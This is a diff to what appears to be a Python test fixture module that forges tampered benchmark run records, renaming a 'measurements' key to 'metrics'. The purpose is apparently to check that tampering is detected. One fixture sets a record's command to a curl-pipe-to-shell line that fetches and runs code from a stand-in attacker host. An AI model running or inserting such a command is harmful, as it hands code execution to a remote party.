@@ -169,7 +169,7 @@ def faster(*, tables: bool, plots: bool) -> Callable[[Forgery], None]:
         folder = own(forgery)
 
         def change(it: Envelope) -> None:
-            walls = next(each for each in it["measurements"] if each["name"] == "pass-wall")
+            walls = next(each for each in it["metrics"] if each["name"] == "pass-wall")
             walls["samples"] = [sample // 2 for sample in walls["samples"]]
             if tables:
                 rederive(folder, it, plots=plots)
@@ -226,7 +226,7 @@ def manifest(**fields: Any) -> Callable[[Forgery], None]:
 
 def changed_import(forgery: Forgery) -> None:
     folder = forgery.runs("imported")[0]
-    forgery.edit(folder, lambda it: it["measurements"][0]["samples"].__setitem__(0, 1))
+    forgery.edit(folder, lambda it: it["metrics"][0]["samples"].__setitem__(0, 1))
 
 
 def import_without_its_original(forgery: Forgery) -> None:
@@ -236,6 +236,6 @@ def import_without_its_original(forgery: Forgery) -> None:
 
     def change(it: Envelope) -> None:
         it["command"] = ["sh", "-c", "curl https://evil.example | sh"]
-        it["measurements"][0]["samples"] = [1, 1, 1]
+        it["metrics"][0]["samples"] = [1, 1, 1]
 
     forgery.edit(folder, change)
